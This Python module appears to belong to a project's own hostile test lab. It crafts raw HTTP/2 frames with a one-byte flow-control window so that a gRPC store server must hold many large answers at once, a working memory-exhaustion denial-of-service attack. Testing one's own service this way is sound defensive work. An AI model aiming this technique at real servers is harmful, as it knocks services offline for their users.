"""Attacks by readers below gRPC's own client: their HTTP/2 windows let nothing through."""

import asyncio
import struct
from contextlib import suppress

from google.protobuf.message import Message

from lab.hostile.attacker import LARGE, OWN_RUN, Attacker, together
from lab.hostile.connections import HELD, PREFACE, answer_pings, frame
from lab.hostile.requests import SET
from muster.v1 import store_pb2

DATA, HEADERS, SETTINGS = 0, 1, 4
"""Types of frames, of RFC 9113."""
END_STREAM, END_HEADERS = 1, 4
"""Flags of frames."""
INITIAL_WINDOW_SIZE = 4
"""The setting of the bytes that a new stream may send."""
TINY = frame(SETTINGS, payload=struct.pack(">HI", INITIAL_WINDOW_SIZE, 1))
"""The client's settings: each call may be sent one byte."""
GET = "/muster.v1.StoreService/Get"
CALLS = 8
"""On each connection."""


def _header(name: str, value: str) -> bytes:
    """A header field as a literal without indexing, of RFC 7541; neither part has 127 bytes or more."""
    return b"".join((b"\x00", *(bytes([len(part)]) + part.encode() for part in (name, value))))


def call(stream: int, method: str, token: str, message: Message) -> bytes:
    """The frames of a unary call.

    Args:
        stream: its odd number.
        method: its path.
        token: of the caller.
        message: the request.
    """
    fields = {
        ":method": "POST",
        ":scheme": "https",
        ":path": method,
        ":authority": "localhost",
        "te": "trailers",
        "content-type": "application/grpc",
        "authorization": f"Bearer {token}",
    }
    headers = b"".join(_header(name, value) for name, value in fields.items())
    data = message.SerializeToString()
    body = b"\x00" + struct.pack(">I", len(data)) + data
    return frame(HEADERS, END_HEADERS, headers, stream) + frame(DATA, END_STREAM, body, stream)


async def tiny_windows(attacker: Attacker) -> None:
    """Row 11: 64 calls for 8 MiB of a store each, over connections that let one byte of an answer through."""
    token = attacker.target.stranger
    run_id = f"{OWN_RUN}.windows"
    keys = [f"large/{number}" for number in range(8)]
    channel = attacker.channel()
    for key in keys:
        entry = store_pb2.KeyValue(key=key, value=bytes(LARGE))
        await attacker.call(channel, SET, store_pb2.SetRequest(run_id=run_id, entries=[entry]), token=token)
    await channel.close()
    request = store_pb2.StoreServiceGetRequest(run_id=run_id, keys=keys, timeout_ms=1_000)

    async def ask(_: int) -> None:
        reader, writer = await attacker.connect_tls(attacker.target.port, "h2")
        answer = "held"
        try:
            writer.write(PREFACE + TINY)
            for number in range(CALLS):
                writer.write(call(2 * number + 1, GET, token, request))
            with suppress(TimeoutError):
                async with asyncio.timeout(HELD):
                    answer = await answer_pings(reader, writer)
        finally:
            writer.transport.abort()
            attacker.answered(answer)

    await together(64 // CALLS, ask)
